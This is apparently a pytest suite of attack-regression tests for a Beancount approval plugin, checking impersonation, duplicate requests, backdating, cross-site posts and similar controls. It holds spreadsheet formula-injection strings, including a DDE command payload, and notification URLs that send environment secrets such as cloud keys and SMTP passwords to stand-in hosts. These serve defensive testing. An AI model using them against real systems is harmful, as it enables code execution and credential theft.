"""Seventh round of attacks on the controls (issue 11): through the tools and at the edges.

Each test is one way tried to move money without the approvals the policy asks
for, to act as someone else, or to get something out of the tools they should
not give, and asserts that the control holds. A test whose docstring says
"Hole:" failed on the code it was written against (the fix is named in the
commit that added it); the others held and add coverage no earlier test had.
"""

from __future__ import annotations

import datetime
import functools
from pathlib import Path
from typing import Any

import pytest
from fava_env import CREATE_EXTRA, DECIDE, Env
from sample_ledgers import OWN_ACCOUNTS

from beancount_adjustments import api
from ledgers import TOOLS_BASE

FAVA = "/test-ledger/extension/AdjustmentsExtension/"


pytestmark = pytest.mark.usefixtures("poll_watcher")


def _files(env: Env) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in env.path.parent.iterdir()
            if p.is_file() and not p.name.endswith(".lock")}


# -- Fava: who acts ----------------------------------------------------------------------

DEMO_AND_HEADER = "{'user-header': 'X-Remote-User', 'demo-mode': True}"
DEMO_HEADER_SECRET = ("{'user-header': 'X-Remote-User', 'demo-mode': True, "
                      "'proxy-secret': 'env:BEAN_ADJUST_TEST_S7_SECRET'}")


@pytest.mark.parametrize("config", [DEMO_AND_HEADER, DEMO_HEADER_SECRET])
@pytest.mark.parametrize("how", ["query", "cookie"])
def test_with_a_user_header_demo_mode_names_nobody(tmp_path: Path, config: str, how: str,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """Hole: with `user-header` (and even `proxy-secret`) set, `demo-mode` left on let a
    client that sent no header act as anyone it picked (`?as=erin` or the cookie):
    the proxy's login, and its secret, were walked around by leaving the header out."""
    monkeypatch.setenv("BEAN_ADJUST_TEST_S7_SECRET", "s3cret")
    env = Env(tmp_path, config)
    before = _files(env)
    body = {"decisions": [{"id": "ADJ-2", "action": "approve", "digest": env.digest("ADJ-2")}]}
    if how == "cookie":
        env.client.set_cookie("adjustments-user", "erin")
        response = env.client.post(DECIDE, json=body)
    else:
        response = env.client.post(DECIDE + "?as=erin", json=body)
    assert response.status_code == 403, response.get_json()
    assert _files(env) == before
    page = env.client.get(FAVA + "?as=erin").get_data(as_text=True)
    assert 'data-user=""' in page
    assert "demo-mode is off while user-header is set" in page


def test_demo_mode_alone_still_picks_the_user(tmp_path: Path) -> None:
    env = Env(tmp_path, "{'demo-mode': True}")
    body = {"decisions": [{"id": "ADJ-2", "action": "approve", "digest": env.digest("ADJ-2")}]}
    response = env.client.post(DECIDE + "?as=erin", json=body)
    assert response.status_code == 200, response.get_json()
    assert response.get_json()["by"] == "erin"


# -- the API: a retry under an external id ------------------------------------------------

RETRIED = {"customer": "cust_123", "type": "credit:refund", "amount": "500.00 USD",
           "reason": "Damaged", "external_id": "crm-7"}
OTHER_CUSTOMER = '2024-01-01 custom "adjustment-customer" "cust_9" "standard"\n'


@pytest.fixture
def tools_ledger(tmp_path: Path) -> Path:
    path = tmp_path / "main.beancount"
    path.write_text(TOOLS_BASE + OTHER_CUSTOMER)
    return path


@pytest.mark.parametrize("change", [
    {"customer": "cust_9"},
    {"type": "credit:goodwill"},
    {"amount": "20.00 USD"},
    {"amount": "500.00 USD", "offset_account": "Income:Sales:Returns"},
    {"id": "ADJ-OTHER"},
])
def test_an_external_id_reused_for_another_request_is_a_conflict(
        tools_ledger: Path, change: dict[str, str]) -> None:
    """Hole: alice's integration reuses an external id for a 20 USD credit to cust_9; the
    API answered with the 500 USD credit to cust_123 (`existing=True`), writing nothing:
    the caller took another customer's adjustment for the one it asked for, and the
    credit it asked for was never filed."""
    first = api.create(tools_ledger, **RETRIED, as_user="alice")
    before = tools_ledger.read_bytes()
    with pytest.raises(api.ApiError) as raised:
        api.create(tools_ledger, **{**RETRIED, **change}, as_user="alice")
    assert raised.value.code == "conflict"
    assert first.id in raised.value.message
    assert tools_ledger.read_bytes() == before
    # The same request again is a retry: the first one, nothing written.
    again = api.create(tools_ledger, **RETRIED, as_user="alice")
    assert again.existing
    assert again.id == first.id
    assert tools_ledger.read_bytes() == before


def test_a_retry_naming_the_first_requests_own_id_is_the_first_request(
        tools_ledger: Path) -> None:
    first = api.create(tools_ledger, **RETRIED, id="ADJ-7", as_user="alice")
    again = api.create(tools_ledger, **RETRIED, id="ADJ-7", as_user="alice")
    assert again.existing
    assert again.id == first.id == "ADJ-7"


def test_fava_create_answers_a_reused_external_id_with_409(tmp_path: Path) -> None:
    env = Env(tmp_path, extra=CREATE_EXTRA)
    body = {"customer": "cust_456", "type": "credit:refund", "amount": "30.00 USD",
            "reason": "Late delivery", "external_id": "crm-9"}
    headers = {"X-Remote-User": "alice"}
    assert env.client.post(FAVA + "create", json=body, headers=headers).status_code == 201
    before = _files(env)
    reused = env.client.post(FAVA + "create", json={**body, "customer": "cust_123"},
                             headers=headers)
    assert reused.status_code == 409
    assert reused.get_json()["code"] == "conflict"
    assert _files(env) == before
    assert env.client.post(FAVA + "create", json=body, headers=headers).status_code == 200


# -- the plugin's settings ------------------------------------------------------------------


@pytest.mark.parametrize("settings", [
    "{'checks': ['plugins.require_ticket.check'], 'default-sla-days': 0}",
    "{'checks': ['plugins.require_ticket.check'], 'recievable': 'Assets:Receivable'}",
    "{'check': ['plugins.require_ticket.check']}",
    "{'checks': 'plugins.require_ticket.check'}",
    "['plugins.require_ticket.check']",
    "{'checks': ['plugins.require_ticket.check'],",
])
def test_settings_that_cannot_be_read_book_nothing(settings: str) -> None:
    """Hole: one bad value (or a misspelt key) in the plugin's settings made the plugin
    judge with the defaults: the site's checks it names did not run, and a 600 USD credit
    without the ticket `plugins.require_ticket` asks for was booked once approved, the
    only trace an error on line 0."""
    from ledgers import event, load, request, with_settings
    text = with_settings(settings) + "\n" + request("ADJ-1", "2026-03-01", "-600.00")
    text += event("ADJ-1", "2026-03-02", "approve", "bob")
    text += event("ADJ-1", "2026-03-03", "approve", "carol")
    loaded = load(text, base=False)
    assert any("no request is booked until the settings are fixed" in e.message
               for e in loaded.errors)
    assert loaded.state("ADJ-1") == "invalid"
    assert (loaded.line("^ADJ-1"), "check-failed") in loaded.codes
    assert loaded.balance("Assets:Receivable") == 0


def test_the_writer_files_nothing_while_the_settings_cannot_be_read(tmp_path: Path) -> None:
    path = tmp_path / "main.beancount"
    plugin = 'plugin "beancount_adjustments"'
    path.write_text(TOOLS_BASE.replace(plugin, plugin + ' "{\'default-sla-days\': 0}"'))
    before = path.read_bytes()
    with pytest.raises(api.ApiError) as raised:
        api.create(path, customer="cust_123", type="credit:refund", amount="10.00 USD",
                   reason="Damaged", as_user="alice")
    assert "settings cannot be read" in raised.value.message
    assert path.read_bytes() == before


@pytest.mark.parametrize("second", [
    "plugin \"beancount_adjustments\"\n",
    "plugin \"beancount_adjustments\" \"{'id-prefix': 'X'}\"\n",
])
@pytest.mark.parametrize("first", [True, False])
def test_a_plugin_enabled_twice_books_nothing(first: bool, second: str) -> None:
    """A second plugin line (in an included file, say) makes Beancount run the pass twice,
    each over what the one before made, one of them without the site's checks. Held
    by accident (the second pass took the first's entries for broken requests); now
    it is said at the plugin line and books nothing."""
    from ledgers import event, load, request, with_settings
    checked = with_settings("{'checks': ['plugins.require_ticket.check']}")
    head, rest = checked.split("\n", 1)
    text = (second + head if first else head + "\n" + second) + "\n" + rest
    text += request("ADJ-1", "2026-03-01", "-600.00")
    text += event("ADJ-1", "2026-03-02", "approve", "bob")
    text += event("ADJ-1", "2026-03-03", "approve", "carol")
    loaded = load(text, base=False)
    assert any("the plugin is enabled 2 times" in e.message for e in loaded.errors)
    assert not loaded.tagged("adjustment", "ADJ-1")
    assert loaded.balance("Assets:Receivable") == 0


# -- every tool writes who entered a request, and that person cannot approve it ------------

TOOL_RULES = """
2026-01-01 open Expenses:Adjustments:Credits
2026-01-01 custom "adjustment-template" "refund"
  type: "credit:refund"
  amount: 40.00 USD
  offset-account: "Income:Sales:Returns"
  reason: "Refund"
2026-01-01 custom "adjustment-schedule" "monthly" "refund"
  customers: "cust_456"
  every: "month"
  start: 2026-12-01
  requested-by: "alice"
"""
CSV_ROWS = ("type,customer,amount,currency,reason,external-id,offset-account,requested-by\n"
            "credit:refund,cust_456,40.00,USD,Damaged,crm-1,Income:Sales:Returns,alice\n")


def _tool_args(tool: str, path: Path) -> list[str]:
    ledger = ["-f", str(path), "--as", "erin"]
    if tool == "import":
        rows = path.parent / "rows.csv"
        rows.write_text(CSV_ROWS)
        return ["import", *ledger, str(rows)]
    if tool == "run-schedules":
        return ["run-schedules", *ledger]
    if tool == "from-template":
        return ["from-template", *ledger, "refund", "--customer", "cust_456"]
    return ["create", *ledger, "--type", "credit:refund", "--customer", "cust_456",
            "--amount", "40.00 USD", "--reason", "Damaged"]


@pytest.mark.parametrize("tool", ["import", "run-schedules", "from-template", "create"])
def test_who_entered_a_request_through_any_tool_cannot_approve_it(tmp_path: Path,
                                                                   tool: str) -> None:
    """erin (a manager) files a 40 USD credit through each tool, in alice's name where
    the tool takes one (a CSV column, a schedule's `requested-by:`); then approves it.
    Held: every tool writes `entered-by: "erin"`, and her approval is refused."""
    from click.testing import CliRunner

    from beancount_adjustments.cli import main
    from ledgers import BASE, load_file
    path = tmp_path / "main.beancount"
    path.write_text(BASE + TOOL_RULES)
    result = CliRunner().invoke(main, _tool_args(tool, path), catch_exceptions=False)
    assert result.exit_code == 0, result.output
    [request] = load_file(path).book.facts.requests
    assert request.entered_by == "erin"
    assert request.requested_by == ("erin" if tool in ("from-template", "create") else "alice")
    before = path.read_bytes()
    refused = CliRunner().invoke(main, ["approve", request.id, "-f", str(path), "--as", "erin"])
    assert refused.exit_code == 1
    assert "segregation of duties" in refused.output
    assert path.read_bytes() == before
    approved = CliRunner().invoke(main, ["approve", request.id, "-f", str(path), "--as", "bob"])
    assert approved.exit_code == 0, approved.output
    assert load_file(path).state(request.id) == "applied"


# -- exports: text a spreadsheet could run ----------------------------------------------------

PAYLOADS = ("Refund;=1+1", "x;=cmd|' /C calc'!A0", "x; @SUM(A1)", "=HYPERLINK(1)",
            'say "hi";-2+3', "Refund\n=1+1", 'a;"=1+1')


def _semicolon_cells(text: str) -> list[str]:
    """The cells a spreadsheet whose list separator is `;` reads from CSV `text`: it
    splits on `;` outside double quotes, as on `,` elsewhere."""
    import csv
    import io
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def _no_formula(text: str) -> None:
    """No cell of `text`, read with `,` or `;` as the separator, is a formula (a plain
    number the product computed, like -40.00, is a number)."""
    import csv
    import io
    import re
    for cells in (_semicolon_cells(text),
                  [c for row in csv.reader(io.StringIO(text)) for c in row]):
        for cell in cells:
            if re.fullmatch(r"-?\d+(\.\d+)?", cell):
                continue
            assert not cell.lstrip(' "').startswith(("=", "+", "-", "@")), (cell, text)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_csv_cell_becomes_a_formula_where_the_separator_is_a_semicolon(
        tmp_path: Path, payload: str) -> None:
    """Hole: only text starting like a formula was neutralised; a spreadsheet whose list
    separator is `;` (most of Europe) splits a reason `Refund;=1+1` into two cells
    (quoted or not: the fields are separated by commas), and starts a row after a line
    break in a reason, so it read a cell `=1+1` from every CSV the product writes:
    exports, reports, statements, Fava's downloads."""
    import csv
    import io

    from beancount_adjustments import reports
    from beancount_adjustments.reports import export as exporting
    from beancount_adjustments.reports.csv_cells import neutralise
    from beancount_adjustments.reports.statement.render import render_csv
    from beancount_adjustments.reports.statement.rows import statement
    from ledgers import event, load, request
    quoted = payload.replace('"', '\\"')
    text = request("ADJ-1", "2026-03-01", "-40.00", reason=quoted, customer="cust_456")
    text += event("ADJ-1", "2026-03-02", "approve", "bob")
    loaded = load(text)
    assert loaded.state("ADJ-1") == "applied"
    book = loaded.book
    assert book is not None
    day = datetime.date(2026, 3, 31)
    written = [exporting.export(book, "csv", "adjustments"),
               exporting.export(book, "csv", "events"),
               reports.report_text("audit", book, reports.Scope(), "csv"),
               render_csv(statement(loaded.entries, book, "cust_456", day.replace(day=1), day))]
    for out in written:
        _no_formula(out)
    # The text is all there, read back as written: with a `'` before each formula.
    [row] = csv.DictReader(io.StringIO(written[0]))
    assert row["reason"] == neutralise(payload)
    assert row["reason"].replace("'", "") == payload.replace("'", "")
    yesterday = datetime.date.today() - datetime.timedelta(days=1)
    env = Env(tmp_path, extra="\n" + request("ADJ-99", yesterday.isoformat(), "-30.00",
                                             customer="cust_456", reason=quoted))
    queue = env.get(FAVA + "export?report=queue").get_data(as_text=True)
    assert "ADJ-99" in queue
    _no_formula(queue)


# -- Fava: what a body may say ----------------------------------------------------------------


@pytest.mark.parametrize(("content_type", "data"), [
    ("text/plain", '{"decisions": [{"id": "ADJ-2", "action": "approve", "digest": "x"}]}'),
    ("application/x-www-form-urlencoded", "decisions=ADJ-2"),
    ("multipart/form-data; boundary=b", '--b\r\nContent-Disposition: form-data; name="id"'
                                        '\r\n\r\nADJ-2\r\n--b--\r\n'),
])
@pytest.mark.parametrize("endpoint", ["decide", "create"])
def test_a_cross_site_form_post_writes_nothing(env_header: Env, endpoint: str,
                                               content_type: str, data: str) -> None:
    """What a page on another origin can send without a CORS preflight (a form, or
    fetch with a simple content type) carries the reviewer's proxy login along; held:
    only `application/json` is read, and that needs the preflight Fava never grants."""
    before = _files(env_header)
    response = env_header.client.post(FAVA + endpoint, data=data, content_type=content_type,
                                      headers={"X-Remote-User": "bob"})
    assert response.status_code == 415
    assert _files(env_header) == before


@pytest.fixture
def env_header(tmp_path: Path) -> Env:
    return Env(tmp_path, extra=CREATE_EXTRA)


@pytest.mark.parametrize("field", ["by", "user", "as", "as_user", "requested_by",
                                   "entered_by", "sign_with", "date"])
def test_a_decision_naming_someone_else_is_decided_by_the_header(env_header: Env,
                                                                 field: str) -> None:
    """alice (an agent, the requester of ADJ-2) posts bob's approval with a body naming
    bob; held: the body's names are not read, the decision is alice's, and refused."""
    before = _files(env_header)
    response = env_header.client.post(FAVA + "decide", headers={"X-Remote-User": "alice"},
                                      json={"decisions": [{
                                          "id": "ADJ-2", "action": "approve",
                                          "digest": env_header.digest("ADJ-2"),
                                          field: "bob"}]})
    assert response.status_code == 422
    assert _files(env_header) == before


@pytest.mark.parametrize("field", ["requested_by", "entered_by", "as_user", "by", "date",
                                   "offset_account", "receivable_account", "requested-by"])
def test_a_request_posted_in_someone_elses_name_is_refused(env_header: Env,
                                                           field: str) -> None:
    before = _files(env_header)
    response = env_header.client.post(FAVA + "create", headers={"X-Remote-User": "bob"},
                                      json={"customer": "cust_456", "type": "credit:refund",
                                            "amount": "30.00 USD", "reason": "x",
                                            field: "alice"})
    assert response.status_code == 400
    assert "unknown field" in response.get_json()["message"]
    assert _files(env_header) == before


def test_a_batch_with_an_unknown_id_writes_the_rest(env_header: Env) -> None:
    """bob's batch approves ADJ-2, an id of another ledger, one with another item's
    digest, and ADJ-6 (decided already): only ADJ-2 is written."""
    response = env_header.client.post(FAVA + "decide", headers={"X-Remote-User": "bob"},
                                      json={"decisions": [
                                          {"id": "ADJ-2", "action": "approve",
                                           "digest": env_header.digest("ADJ-2")},
                                          {"id": "OTHER-1", "action": "approve",
                                           "digest": "v2-0"},
                                          {"id": "ADJ-5", "action": "approve",
                                           "digest": env_header.digest("ADJ-2")},
                                          {"id": "ADJ-6", "action": "approve",
                                           "digest": env_header.digest("ADJ-6")}]})
    body = response.get_json()
    assert response.status_code == 200, body
    assert body["ids"] == ["ADJ-2"]
    assert sorted(r["id"] for r in body["refused"]) == ["ADJ-5", "ADJ-6", "OTHER-1"]
    assert {r["id"]: r["code"] for r in body["refused"]}["ADJ-5"] == "changed"
    assert env_header.state("ADJ-2") == "applied"
    assert env_header.state("ADJ-5") == "pending"


# -- the API: who and when ----------------------------------------------------------------------


@pytest.mark.parametrize("call", ["create", "approve", "reject", "cancel"])
def test_the_api_acts_only_as_a_declared_user(tools_ledger: Path, call: str) -> None:
    adj = api.create(tools_ledger, customer="cust_123", type="credit:refund",
                     amount="50.00 USD", reason="Damaged", as_user="alice")
    before = tools_ledger.read_bytes()
    act = (functools.partial(api.create, customer="cust_123", type="credit:refund",
                             amount="50.00 USD", reason="Damaged") if call == "create"
           else functools.partial(getattr(api, call), adjustment_id=adj.id, reason="No"))
    with pytest.raises(api.ApiError) as raised:
        act(tools_ledger, as_user="mallory")
    assert raised.value.code == "refused"
    assert "mallory" in raised.value.message
    assert tools_ledger.read_bytes() == before


@pytest.mark.parametrize("call", ["create", "approve", "cancel"])
def test_the_api_cannot_back_date(tools_ledger: Path, call: str) -> None:
    """`date=` is the entry's date; the writer stamps `at:` with now, so a date two days
    before it is refused as the plugin would refuse it (backdate-days 0; a UTC stamp
    is allowed half a day, so one day back may still be the writer's day)."""
    from ledgers import request
    day = datetime.date.today()
    text = tools_ledger.read_text() + request(
        "ADJ-1", (day - datetime.timedelta(days=5)).isoformat(), "-50.00", customer="cust_123")
    tools_ledger.write_text(text)
    before = tools_ledger.read_bytes()
    back = day - datetime.timedelta(days=2)
    act = (functools.partial(api.create, customer="cust_123", type="credit:refund",
                             amount="50.00 USD", reason="Damaged", as_user="alice")
           if call == "create" else functools.partial(getattr(api, call),
                                                      adjustment_id="ADJ-1", as_user="bob",
                                                      reason="No"))
    with pytest.raises(api.ApiError) as raised:
        act(tools_ledger, date=back)
    assert "[backdated]" in raised.value.message
    assert tools_ledger.read_bytes() == before


# -- the writer: an included file edited while it judges ---------------------------------------


def test_a_request_edited_in_another_file_during_a_write_books_nothing(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """bob approves alice's 40 USD credit in requests.beancount through the CLI; while
    the writer judges, alice's editor saves the request as 900 USD. Held: the lock
    keeps writers out, not editors, and the approval written binds the digest of the
    40 USD request: the 900 USD one is not booked."""
    from click.testing import CliRunner

    from beancount_adjustments.cli import main
    from beancount_adjustments.writer import write
    from ledgers import load_file, request
    yesterday = (datetime.date.today() - datetime.timedelta(days=1)).isoformat()
    side = tmp_path / "requests.beancount"
    side.write_text(request("ADJ-1", yesterday, "-40.00", customer="cust_123",
                            receivable="Assets:Receivable:Customers"))
    path = tmp_path / "main.beancount"
    path.write_text(TOOLS_BASE + '\ninclude "requests.beancount"\n')
    judge = write.judge

    def edited_meanwhile(*args: Any, **kwargs: Any) -> Any:
        side.write_text(side.read_text().replace("40.00", "900.00"))
        return judge(*args, **kwargs)

    monkeypatch.setattr(write, "judge", edited_meanwhile)
    result = CliRunner().invoke(main, ["approve", "ADJ-1", "-f", str(path), "--as", "bob"])
    assert result.exit_code == 0, result.output
    loaded = load_file(path)
    assert loaded.state("ADJ-1") != "applied"
    assert not loaded.tagged("adjustment", "ADJ-1")
    assert "stale-approval" in loaded.code_set


# -- a cached load and the site's checks ----------------------------------------------------


def test_a_cache_made_before_a_site_check_changed_is_loaded_afresh(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Hole: the stamp in a pickle cache covered this package's code, not the site's
    checks: after a check was made stricter, Beancount's cache (renewed only when a
    ledger file changes) handed back the book the old check judged, so bean-check and
    every reading command showed as booked what the check now refuses."""
    import sys

    from beancount import loader

    from ledgers import load_file, request, with_settings
    parsed: list[str] = []
    uncached = loader._uncached_load_file

    def parse(*args: Any, **kwargs: Any) -> Any:
        parsed.append(args[0])
        return uncached(*args, **kwargs)

    monkeypatch.setattr(loader, "_load_file", loader.pickle_cache_function(  # cache every load
        functools.partial(loader.get_cache_filename, loader.PICKLE_CACHE_FILENAME), 0.0,
        parse))
    monkeypatch.syspath_prepend(str(tmp_path))  # the site's module stays importable
    module = tmp_path / "site_checks_s7.py"
    module.write_text("def check(request, amount):\n    return None\n")
    path = tmp_path / "main.beancount"
    path.write_text(with_settings("{'checks': ['site_checks_s7.check']}")
                    + request("ADJ-1", "2026-03-01", "-10.00"))
    assert load_file(path).state("ADJ-1") == "applied"
    assert (tmp_path / ".main.beancount.picklecache").exists()
    module.write_text("def check(request, amount):\n    return 'not any more'\n")
    monkeypatch.delitem(sys.modules, "site_checks_s7")
    loaded = load_file(path)
    assert loaded.state("ADJ-1") == "invalid"
    assert (loaded.line("^ADJ-1"), "check-failed") in loaded.codes
    # Unchanged, the check's module keeps the cache good.
    assert len(parsed) == 2
    assert load_file(path).state("ADJ-1") == "invalid"
    assert len(parsed) == 2


# -- notify: what a channel line can send where -----------------------------------------------


@pytest.mark.parametrize("url", [
    "json://collector.example.net/{env:BEAN_ADJUST_PROXY_SECRET}",
    "json://collector.example.net/hook?x={env:AWS_SECRET_ACCESS_KEY}",
    "mailtos://{env:SMTP_USER}:{env:SMTP_PASSWORD}@smtp.collector.example.net",
])
def test_a_channel_line_cannot_send_the_environment_to_a_host_it_names(url: str) -> None:
    """Whoever edits the ledger (an agent, say) adds a channel for `*` whose URL holds
    `{env:NAME}` for a secret of the notify process (the proxy's secret, cloud keys, the
    SMTP password of the real channels) in a part apprise does not mask, or the real
    credentials with another host: the next run sends them to that host. The secret
    check only refuses literal secrets; nothing limits which variables a line reads."""
    from beancount_adjustments.core.notice_lines import Channel
    from beancount_adjustments.notify.secrets import channel_problem
    problem = channel_problem(Channel(target="*", url=url))
    assert problem is not None
    assert "whoever edits the ledger chooses where the value is sent" in problem


@pytest.mark.parametrize(("channel", "allowed", "used"), [
    # The whole URL as one variable: the deployment's own destination.
    ({"url": "{env:FINANCE_SLACK_URL}"}, (), True),
    # The deployment's config may build URLs around its secrets.
    ({"url": "mailtos://{env:SMTP_USER}:{env:SMTP_PASSWORD}@smtp.example.com?to={email}",
      "in_ledger": False}, (), True),
    # A value the deployment names as no secret.
    ({"url": "mailto://smtp.example.com?from={env:NOTIFY_FROM}&to={email}"},
     ("NOTIFY_FROM",), True),
    # ... and only that one.
    ({"url": "mailtos://{env:SMTP_USER}:{env:SMTP_PASSWORD}@evil.example.net"},
     ("NOTIFY_FROM",), False),
])
def test_what_a_channel_may_place_from_the_environment(channel: dict[str, object],
                                                       allowed: tuple[str, ...],
                                                       used: bool) -> None:
    from beancount_adjustments.core.notice_lines import Channel
    from beancount_adjustments.notify.secrets import channel_problem
    found = Channel(target="*", **channel)  # type: ignore[arg-type]
    assert (channel_problem(found, frozenset(allowed)) is None) is used


# -- the writer's target ------------------------------------------------------------------------


@pytest.mark.parametrize("target", ["elsewhere.beancount", "../outside.beancount"])
def test_fava_writes_only_into_a_file_of_its_ledger(tmp_path: Path, target: str) -> None:
    """The extension's `target` names a file the ledger does not include: held, the
    writer refuses it (422) and writes nowhere."""
    (tmp_path / "elsewhere.beancount").write_text("; not included\n")
    ledger_dir = tmp_path / "books"
    ledger_dir.mkdir()
    if target.startswith(".."):
        (tmp_path / "outside.beancount").write_text("; not included\n")
    else:
        target = str(tmp_path / target)  # absolute
    config = f"{{'user-header': 'X-Remote-User', 'target': '{target}'}}"
    env = Env(ledger_dir, config)
    watched = list(tmp_path.rglob("*.beancount"))
    before = {p: p.read_bytes() for p in watched}
    response = env.decide([{"id": "ADJ-2", "action": "approve"}])
    assert response.status_code == 422, response.get_json()
    assert "is not part of the ledger" in response.get_json()["error"]
    assert {p: p.read_bytes() for p in watched} == before
    assert env.state("ADJ-2") == "pending"


def test_the_cli_cannot_date_a_decision_ahead(tmp_path: Path) -> None:
    """`--date` tomorrow: the plugin would count the approval under tomorrow's roles
    (dated-ahead); held, the writer refuses it as the plugin would."""
    from click.testing import CliRunner

    from beancount_adjustments.cli import main
    from ledgers import request
    path = tmp_path / "main.beancount"
    yesterday = datetime.date.today() - datetime.timedelta(days=1)
    path.write_text(TOOLS_BASE + request("ADJ-1", yesterday.isoformat(), "-50.00",
                                         customer="cust_123"))
    before = path.read_bytes()
    ahead = (datetime.date.today() + datetime.timedelta(days=2)).isoformat()
    result = CliRunner().invoke(main, ["approve", "ADJ-1", "-f", str(path), "--as", "bob",
                                       "--date", ahead])
    assert result.exit_code == 1
    assert "[dated-ahead]" in result.output
    assert path.read_bytes() == before


def test_a_csv_row_on_another_customers_account_is_refused(tmp_path: Path) -> None:
    """A row "for Ghost" (a known customer at the default tier) whose receivable-account is
    Acme's own: held, the import refuses it (the plugin's customer-account rule, judged
    by the writer) and writes nothing, so Acme's vip chain is not skipped."""
    from click.testing import CliRunner

    from beancount_adjustments.cli import main
    path = tmp_path / "main.beancount"
    path.write_text(OWN_ACCOUNTS)
    rows = tmp_path / "rows.csv"
    rows.write_text("type,customer,amount,currency,reason,external-id,offset-account,"
                    "receivable-account\ncredit:goodwill,Ghost,20.00,USD,Sorry,crm-1,"
                    "Expenses:Goodwill,Assets:Receivable:Acme\n")
    before = path.read_bytes()
    result = CliRunner().invoke(main, ["import", "-f", str(path), "--as", "alice", str(rows)])
    assert result.exit_code == 1
    assert "[customer-account]" in result.output
    assert "line 2" in result.output or "rows.csv:2" in result.output
    assert path.read_bytes() == before


# -- the one reader: what a tool writes is read back as written ------------------------------


def test_text_that_spells_metadata_stays_the_text_it_was(tools_ledger: Path) -> None:
    """A reason (and a comment) holding quotes, backslashes and line breaks that spell
    `requested-by: "bob"` and `by: "erin"`: held, the writer escapes them, so the
    plugin reads one reason, alice's request and alice's cancel."""
    from ledgers import load_file
    reason = 'a"\n  requested-by: "bob\\'
    adj = api.create(tools_ledger, customer="cust_123", type="credit:refund",
                     amount="50.00 USD", reason=reason, as_user="alice")
    api.cancel(tools_ledger, adj.id, as_user="alice", reason='x\\"\n  by: "erin"\n  y: "',
               comment="c\\")
    loaded = load_file(tools_ledger)
    assert loaded.errors == []
    found = loaded.adj(adj.id)
    assert found.request.requested_by == "alice"
    assert found.request.reason == reason
    assert [(r.event.by, r.event.reason) for r in found.history] == [
        ("alice", 'x\\"\n  by: "erin"\n  y: "')]
    assert found.state == "withdrawn"
